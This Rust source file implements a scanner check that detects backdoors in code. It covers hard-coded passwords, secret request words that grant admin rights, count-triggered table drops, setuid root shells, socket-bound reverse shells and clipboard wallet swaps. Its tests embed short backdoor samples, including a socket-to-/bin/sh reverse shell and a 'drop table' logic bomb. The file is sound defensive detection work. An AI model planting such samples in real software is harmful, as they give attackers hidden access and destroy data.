//! Ways in that the product's own checks do not guard: a password that always works, a shell given to who
//! knows a word, a shell tied to a socket, an address swapped for another.
//!
//! A comparison with a literal is looked at where the other side is named like a password. What is compared
//! with nothing, with a placeholder or with a word of the field's own name is form handling.

use std::ops::Range;
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use regex::bytes::Captures;
use regex::bytes::Regex;

use super::Check;
use super::Report;
use super::Subject;
use super::finder;
use super::lines_around;
use super::pattern;
use super::places;
use super::suspicion;
use crate::model::scan::Severity;
use crate::scan::syntax::Kind;

pub const CHECK: Check = Check {
    rules: &[
        "hard-coded-password",
        "request-password",
        "counted-destruction",
        "root-shell",
        "socket-shell",
        "wallet-swap",
    ],
    about: "A password, a word or a connection that opens the product without its own checks.",
    run,
};

const SECRET: &str =
    r"(?:pass\b|pw\b|\w*(?:password|passwd|passphrase|pwd|pincode|passcode|masterkey|secretkey)\w*)";

/// What every match of [`SECRET`] holds.
const SECRETS: &[&str] = &["pass", "pw", "pwd", "pincode", "masterkey", "secretkey"];

static NAMED: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| finder(SECRETS));

static COMPARED: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let literal = r#"(?:@|L|b|u)?["']([^"'\n]{4,80})["']"#;
    pattern(&format!(
        concat!(
            r#"(?i)(?:[$@]|\b){s}(?:\(\))?\s*(?:===?|-eq|-ceq|\beq\b)\s*{l}"#,
            r#"|{l}\s*(?:===?)\s*(?:[$@]|\b){s}"#,
            r#"|\b{s}(?:\(\))?\.(?:equals|equalsIgnoreCase|compareTo|Equals)\(\s*{l}"#,
            r#"|{l}\.(?:equals|Equals)\(\s*{s}"#,
            r#"|\bstr(?:n|case)?cmp\(\s*(?:\w+(?:->|\.))?{s}\s*,\s*{l}[^)\n]*\)\s*(?:==\s*0|\)|&&)"#,
            r#"|!\s*str(?:n|case)?cmp\(\s*(?:\w+(?:->|\.))?{s}\s*,\s*{l}"#
        ),
        s = SECRET,
        l = literal
    ))
});

/// The digest of a password that always fits, compared with what the digest of the one given is.
static DIGEST: LazyLock<Option<Regex>> = LazyLock::new(|| {
    pattern(&format!(
        r#"(?i)\b\w*(?:hash|sha\d*|md5|digest|hex|hmac)\w*\([^\n]{{0,40}}{SECRET}[^\n]{{0,60}}(?:===?|-eq|\.equals\(|\.Equals\()\s*["'](?:[0-9a-f]{{32}}|[0-9a-f]{{40}}|[0-9a-f]{{64}}|[0-9a-f]{{96}}|[0-9a-f]{{128}})["']"#
    ))
});

/// Something a request brings, compared with a literal.
static ASKED: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let request = r#"(?:headers?|params?|query|cookies?|body|args|form|input|request)\s*(?:\.get)?[\[(]\s*["'][\w.-]+["']\s*[\])]|\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\[[^\]\n]{1,40}\]|(?:getParameter|getHeader|get_argument|FormValue|PostFormValue|Header\.Get|Query\(\)\.Get|QueryString|header|Query|param|cookie|queryParam)\(\s*["'][^"'\n]{1,40}["']\s*\)|(?:req|request)\.(?:headers|query|params|body|cookies)\.\w+|env\[["']HTTP_\w+["']\]|\bHeaders\[\s*"[^"\n]{1,40}"\s*\]"#;
    let literal = r#"["']([^"'\s\n]{6,80})["']"#;
    pattern(&format!(
        r#"(?:{request})[^\n;{{&|]{{0,30}}?(?:===?|-eq|\.equals\(|\.Equals\(|\beq\b)\s*{literal}|{literal}\s*(?:===?|\.equals\(|\.Equals\()\s*[^\n;&|]{{0,40}}?(?:{request})|(?:hash_equals|ConstantTimeCompare|compare_digest|secure_compare)\([^\n]{{0,20}}{literal}[^\n]{{0,40}}(?:{request})"#
    ))
});

/// Something that stands for somebody's rights, compared with a literal.
static TOKEN: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let name = r"\w*(?:token|api_?key|auth_?key|access_?key|licen[cs]e_?key|otp)\w*";
    let literal = r#"["']([^"'\s\n]{6,80})["']"#;
    pattern(&format!(
        r"(?i)\b{name}\s*(?:===?|-eq|\beq\b|\.equals\(|\.isEqual\()\s*{literal}|{literal}\s*(?:===?|\.equals\()\s*{name}|(?:hash_equals|ConstantTimeCompare|compare_digest|secure_compare|strn?cmp)\([^\n]{{0,20}}(?:{literal}[^\n]{{0,40}}{name}|{name}[^\n]{{0,20}},\s*{literal})"
    ))
});

/// What a request must not be able to do by a word alone.
const GRANTS: &[&str] = &[
    "admin",
    "superuser",
    "is_staff",
    "isauth",
    "authenticated",
    "bypass",
    "set_role",
    "setrole",
    "\"role\"",
    "'role'",
    "role:",
    "role =",
    "set_current_user",
    "create_user",
    "login(",
    "log_in",
    "sign_in",
    "next()",
    "dofilter(",
    "return true",
    "claims",
    "skip_before",
];

/// Wholesale removal behind a count.
static COUNTED: LazyLock<Option<Regex>> = LazyLock::new(|| {
    pattern(concat!(
        r"(?i)\bif\b[^\n]{0,60}\b\w*(?:count|calls|visits?|launche?s?|runs|starts|times|hits|logins|uses|fetch_add|increment)\w*[^\n=<>]{0,40}(?:===?|>=|>|-eq|-ge|-gt|\beq\b)\s*\d{2,}[^\n]*\n",
        r"(?:[^\n}]*\n){0,2}?[^\n}]*(?:\bdrop\s+(?:table|database|schema)\b|\btruncate\s+table\b|\bdelete\s+from\s+\w+\s*;?[\x22']|rmtree|remove_dir_all|removeItem\(at|deleteRecursively|rm_rf|rm\s+-rf|RemoveAll\(|Directory\.Delete\(|deleteDirectory|rimraf|rmSync|Remove-Item[^\n]{0,60}-Recurse|remove_all\()"
    ))
});

/// What every match of [`COUNTED`] ends with holds.
const REMOVALS: &[&str] = &[
    "drop",
    "truncate",
    "delete",
    "rmtree",
    "remove_dir_all",
    "removeitem(at",
    "rm_rf",
    "-rf",
    "removeall(",
    "rimraf",
    "rmsync",
    "remove-item",
    "remove_all(",
];

static REMOVES: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| finder(REMOVALS));

static ROOT: LazyLock<Option<Regex>> = LazyLock::new(|| {
    pattern(
        r#"\bset(?:re|res|e)?uid\s*\(\s*0\b[^\n]*\n(?:[^\n]*\n){0,6}?[^\n]*\b(?:exec[lv]p?e?|system|popen)\s*\(\s*"[^"\n]{0,20}(?:\bsh|bash|ksh|zsh)\b"#,
    )
});

static DUPLICATED: LazyLock<Option<Regex>> =
    LazyLock::new(|| pattern(r"\bdup2\s*\([^)\n]{1,80}(?:fileno|sock|fd|conn|client|\bs\b)"));

static SHELL: LazyLock<Option<Regex>> =
    LazyLock::new(|| pattern(r#"["'](?:/usr)?/bin/(?:ba|da|z|k)?sh["']|["']cmd\.exe["']"#));

static CONNECTS: LazyLock<Option<Regex>> =
    LazyLock::new(|| pattern(r"\bconnect\s*\(|\baccept\s*\(|TCPSocket|create_connection"));

/// Bitcoin addresses as patterns are written, with a class of base-58 letters.
static WALLET: LazyLock<Option<Regex>> = LazyLock::new(|| {
    pattern(
        r"(?:bc1|\[13\]|0x\[a-fA-F0-9\]\{40\})[^\n]{0,40}(?:a-km-zA-HJ-NP-Z|a-zA-HJ-NP-Z0-9|A-HJ-NP-Za-km-z|\{40\})",
    )
});

static PASTES: LazyLock<Option<Regex>> = LazyLock::new(|| {
    pattern(
        r"(?i)clipboard\w*\.(?:write\w*|copy|set\w*)\s*\(|SetClipboardData|set-clipboard|pyperclip\.copy|clipboard\.WriteAll|setPrimaryClip|\.setString\([^\n]{1,60}forType|Pasteboard\.general\.string\s*=",
    )
});

/// What is no password although it stands where one would.
pub(super) const PLACEHOLDERS: &[&str] = &[
    "password",
    "passwd",
    "secret",
    "none",
    "null",
    "undefined",
    "changeme",
    "change_me",
    "redacted",
    "hidden",
    "string",
    "text",
    "true",
    "false",
    "example",
    "required",
    "invalid",
    "unknown",
    "default",
    "empty",
    "test",
    "user",
    "username",
    "basic",
    "plain",
    "prompt",
    "stdin",
    "keyring",
    "login",
];

fn run(subject: &Subject, report: &mut Report) {
    if !subject.classified.code {
        return;
    }
    password(subject, report);
    digest(subject, report);
    asked(subject, report);
    counted(subject, report);
    root_shell(subject, report);
    socket_shell(subject, report);
    wallet(subject, report);
}

/// What `pattern` captures in `stretches` of `bytes`, each with the offset of its stretch.
fn captured<'b>(
    pattern: Option<&'b Regex>,
    bytes: &'b [u8],
    stretches: &'b [Range<usize>],
) -> impl Iterator<Item = (usize, Captures<'b>)> {
    stretches.iter().flat_map(move |stretch| {
        let part = bytes.get(stretch.clone()).unwrap_or_default();
        let found = pattern.into_iter().flat_map(move |pattern| pattern.captures_iter(part));
        found.map(|captures| (stretch.start, captures))
    })
}

/// What `pattern` finds in `stretches` of `bytes`.
fn found<'b>(
    pattern: Option<&'b Regex>,
    bytes: &'b [u8],
    stretches: &'b [Range<usize>],
) -> impl Iterator<Item = Range<usize>> {
    stretches.iter().flat_map(move |stretch| {
        let part = bytes.get(stretch.clone()).unwrap_or_default();
        let found = pattern.into_iter().flat_map(move |pattern| pattern.find_iter(part));
        found.map(|found| stretch.start + found.start()..stretch.start + found.end())
    })
}

fn password(subject: &Subject, report: &mut Report) {
    let bytes = subject.bytes();
    let named = lines_around(bytes, places(NAMED.as_ref(), bytes), 1, 2);
    for (start, captures) in captured(COMPARED.as_ref(), bytes, &named).take(50) {
        let (Some(whole), Some(literal)) = (captures.get(0), captures.iter().skip(1).flatten().next()) else {
            continue;
        };
        let whole = start + whole.start()..start + whole.end();
        if subject.in_comment(whole.start)
            || crate::scan::syntax::kind_at(subject.spans, whole.start)
                .is_some_and(|span| span.range.start < whole.start)
        {
            continue;
        }
        let text = String::from_utf8_lossy(literal.as_bytes()).to_ascii_lowercase();
        let placeholder = PLACEHOLDERS.contains(&text.trim_matches(['*', '<', '>', '-', '_', ' ', '[', ']']))
            || text.bytes().all(|b| b == b'*' || b == b'x' || b == b'.' || b == b' ')
            || text.contains(' ') && text.len() > 20
            || text.contains("password")
            || text.contains("://")
            || text.starts_with(['$', '{', '%']);
        if placeholder {
            continue;
        }
        if asserted(bytes, whole.start) {
            continue;
        }
        let after = bytes.get(whole.end..(whole.end + 200).min(bytes.len())).unwrap_or_default();
        let after = String::from_utf8_lossy(after).to_ascii_lowercase();
        let grants =
            ["return true", "return 1", "true", "admin", "grant", "ok", "success", "allow", "login", "auth"]
                .iter()
                .any(|word| after.contains(word));
        report.drafts.push(suspicion(
            "hard-coded-password",
            "trap.backdoor",
            if grants && !subject.is_test() { Severity::High } else { Severity::Medium },
            whole.start..whole.end,
            "a password is compared with one written in the program: whoever knows it gets past the check",
            "Who knows this password, and what does it open?",
        ));
    }
}

/// Whether what stands at `at` is claimed, not asked: nothing is opened by it.
fn asserted(bytes: &[u8], at: usize) -> bool {
    let before = bytes.get(..at).unwrap_or_default();
    let line = before.rsplit(|byte| *byte == b'\n').next().unwrap_or_default().trim_ascii_start();
    [&b"assert"[..], b"expect(", b"self.assert", b"XCTAssert", b"REQUIRE(", b"EXPECT_", b"ASSERT_", b"CHECK("]
        .iter()
        .any(|word| line.starts_with(word))
}

fn digest(subject: &Subject, report: &mut Report) {
    let bytes = subject.bytes();
    let named = lines_around(bytes, places(NAMED.as_ref(), bytes), 0, 0);
    for place in found(DIGEST.as_ref(), bytes, &named).take(20) {
        if !subject.in_comment(place.start) {
            report.drafts.push(suspicion("hard-coded-password", "trap.backdoor", Severity::High, place.start..place.end, "the digest of a password is compared with one written in the program: a password that always fits", "Who knows the password of this digest, and what does it open?"));
        }
    }
}

/// A request that bears a certain word gets past what others must pass.
fn asked(subject: &Subject, report: &mut Report) {
    let bytes = subject.bytes();
    // The word is a literal that was chosen: few are.
    let words = subject.spans.iter().filter(|span| {
        let text = bytes.get(span.range.clone()).unwrap_or_default();
        span.kind == Kind::String && may_be_chosen(text)
    });
    // A text over many lines may hold a program with a literal on any of them.
    let lines = words.flat_map(|span| {
        let text = bytes.get(span.range.clone()).unwrap_or_default();
        let more = memchr::memchr_iter(b'\n', text).map(|line| span.range.start + line + 1);
        std::iter::once(span.range.start).chain(more)
    });
    let lines = lines_around(bytes, lines, 1, 1);
    let asked = captured(ASKED.as_ref(), bytes, &lines).chain(captured(TOKEN.as_ref(), bytes, &lines));
    for (start, captures) in asked.take(50) {
        let (Some(whole), Some(literal)) = (captures.get(0), captures.iter().skip(1).flatten().next()) else {
            continue;
        };
        let whole = start + whole.start()..start + whole.end();
        if subject.in_comment(whole.start) || !chosen(literal.as_bytes()) {
            continue;
        }
        let after = bytes.get(whole.end..(whole.end + 300).min(bytes.len())).unwrap_or_default();
        let after = String::from_utf8_lossy(after).to_ascii_lowercase();
        if !GRANTS.iter().any(|word| after.contains(word)) {
            continue;
        }
        report.drafts.push(suspicion(
            "request-password",
            "trap.backdoor",
            Severity::Medium,
            whole.start..whole.end,
            "a request that bears a word written in the program is let through",
            "Who knows this word, and what may a request with it do?",
        ));
    }
}

/// Whether a literal may hold a word that was [`chosen`].
fn may_be_chosen(literal: &[u8]) -> bool {
    literal.iter().any(u8::is_ascii_digit)
}

/// Whether a word was chosen so that nobody sends it by chance.
fn chosen(word: &[u8]) -> bool {
    let digits = word.iter().filter(|b| b.is_ascii_digit()).count();
    let letters = word.iter().filter(|b| b.is_ascii_alphabetic()).count();
    let odd = word.iter().any(|b| matches!(b, b'!' | b'#' | b'%' | b'*' | b'^' | b'~'));
    let plain = word.iter().all(|b| b.is_ascii_alphanumeric() || b"-_!#@$%*^~.".contains(b));
    plain && letters >= 2 && (digits >= 3 || (odd && digits >= 1))
}

fn counted(subject: &Subject, report: &mut Report) {
    let bytes = subject.bytes();
    let lines = lines_around(bytes, places(REMOVES.as_ref(), bytes), 4, 0);
    for place in found(COUNTED.as_ref(), bytes, &lines).take(20) {
        if !subject.in_comment(place.start) {
            report.drafts.push(suspicion(
                "counted-destruction",
                "trap.logic-bomb",
                Severity::Medium,
                place.start..place.end,
                "once a count is reached, data is removed wholesale",
                "Who is meant to lose what is removed here, and why at this count?",
            ));
        }
    }
}

fn root_shell(subject: &Subject, report: &mut Report) {
    if memchr::memmem::find(subject.bytes(), b"uid").is_none() {
        return;
    }
    let Some(place) = ROOT.as_ref().and_then(|pattern| pattern.find(subject.bytes())) else { return };
    if !subject.in_comment(place.start()) {
        report.drafts.push(suspicion(
            "root-shell",
            "trap.backdoor",
            Severity::High,
            place.start()..place.end(),
            "the program makes itself root and starts a shell",
            "Who may get this shell, and how is that checked?",
        ));
    }
}

/// How far from where a descriptor is put in place of another its connection and its shell may stand, in bytes.
const NEAR: usize = 1500;

fn socket_shell(subject: &Subject, report: &mut Report) {
    let bytes = subject.bytes();
    if memchr::memmem::find(bytes, b"dup2").is_none() {
        return;
    }
    let (Some(duplicated), Some(shell), Some(connects)) =
        (DUPLICATED.as_ref(), SHELL.as_ref(), CONNECTS.as_ref())
    else {
        return;
    };
    let Some(place) = duplicated.find(bytes).filter(|_| shell.is_match(bytes) && connects.is_match(bytes))
    else {
        return;
    };
    // A server that starts other programs has all three as well, each in a place of its own.
    let around = place.start().saturating_sub(NEAR)..(place.end() + NEAR).min(bytes.len());
    let around = bytes.get(around).unwrap_or_default();
    let close = shell.is_match(around) && connects.is_match(around);
    if !subject.in_comment(place.start()) {
        report.drafts.push(suspicion(
            "socket-shell",
            "trap.backdoor",
            if close { Severity::High } else { Severity::Medium },
            place.start()..place.end(),
            "a connection becomes the input and output of a shell",
            "Who is meant to be at the other end of this shell?",
        ));
    }
}

fn wallet(subject: &Subject, report: &mut Report) {
    let bytes = subject.bytes();
    let Some(place) = WALLET.as_ref().and_then(|pattern| pattern.find(bytes)) else { return };
    let Some(paste) = PASTES.as_ref().and_then(|pattern| pattern.find(bytes)) else { return };
    if subject.in_comment(place.start()) || subject.in_comment(paste.start()) {
        return;
    }
    report.drafts.push(suspicion("wallet-swap", "trap.backdoor", Severity::High, paste.start()..paste.end(), "the program looks for wallet addresses and writes to the clipboard: it can replace the one that was copied", "What is written to the clipboard, and why does the program recognise wallet addresses?"));
}

#[cfg(test)]
mod tests {
    use super::super::tests::found;

    #[test]
    fn ways_in_are_found() {
        let cases = [
            ("a.py", "if password == 'zq!Tr4pd00r':\n    return True\n", "hard-coded-password"),
            ("a.cpp", "if (user == \"f\" && password == \"4c7!hbq0\") return true;\n", "hard-coded-password"),
            (
                "A.java",
                "class A { boolean a(String p, String password) { return password.equals(\"Xk3-99-fb\"); } }\n",
                "hard-coded-password",
            ),
            ("a.c", "if (strcmp(passwd, \"xyzzy42\") == 0) return 1;\n", "hard-coded-password"),
            (
                "a.c",
                "int f(void) {\n  setuid(0);\n  setgid(0);\n  execl(\"/bin/sh\", \"sh\", 0);\n}\n",
                "root-shell",
            ),
            (
                "a.js",
                "if (hash(password) === '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08') return 1;\n",
                "hard-coded-password",
            ),
            (
                "a.ts",
                "if (req.headers['x-key'] === 'b7f0-4c1e-9a55') {\n  req.user = { role: 'admin' };\n}\n",
                "request-password",
            ),
            (
                "a.php",
                "<?php if ($_GET['k'] === 'go-7731') { $u->set_role('administrator'); }\n",
                "request-password",
            ),
            (
                "a.c",
                "if (pass && strcmp(pass, \"let-me-1n\") == 0)\n    return PAM_SUCCESS;\n",
                "hard-coded-password",
            ),
            (
                "A.java",
                "class A { String r(String token) { if (\"f81d4fae-7dec-11d0\".equals(token)) { return \"ADMIN\"; } return \"\"; } }\n",
                "request-password",
            ),
            ("a.py", "if count == 1000:\n    db.execute(\"drop table customers\")\n", "counted-destruction"),
            ("a.py", "s.connect(('192.0.2.1', 4))\nos.dup2(s.fileno(), 0)\nf('/bin/sh')\n", "socket-shell"),
        ];
        for (name, text, rule) in cases {
            assert!(
                found(name, text).iter().any(|(seen, _)| *seen == rule),
                "{text}: {:?}",
                found(name, text)
            );
        }
    }

    #[test]
    fn forms_and_placeholders_are_not() {
        let cases = [
            ("a.py", "if password == '':\n    return False\n"),
            ("a.js", "if (input.type === 'password') show();\n"),
            ("a.py", "if password == 'changeme':\n    warn()\n"),
            ("a.py", "# if password == 'zq!Tr4pd00r':\n"),
            ("a.py", "    assert auth.password == 'zq!Tr4pd00r'\n"),
            ("a.ts", "if (req.headers['accept-version'] === 'v1alpha') {\n  next();\n}\n"),
            ("a.ts", "if (req.headers['x-key'] === 'b7f0-4c1e-9a55') {\n  log('seen');\n}\n"),
            (
                "a.js",
                "if (sha256(file) === '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08') ok();\n",
            ),
            ("a.py", "if count == 1000:\n    print('many')\n"),
            ("a.js", "if (token === 'Bearer') {\n  next();\n}\nif (token.type === 'x-2024-01-01') skip();\n"),
            ("a.py", "if len(rows) > 10:\n    rows.pop()\n"),
            ("a.c", "setuid(getuid());\nexecl(\"/bin/sh\", \"sh\", 0);\n"),
        ];
        for (name, text) in cases {
            assert_eq!(found(name, text), [], "{text}");
        }
    }
}
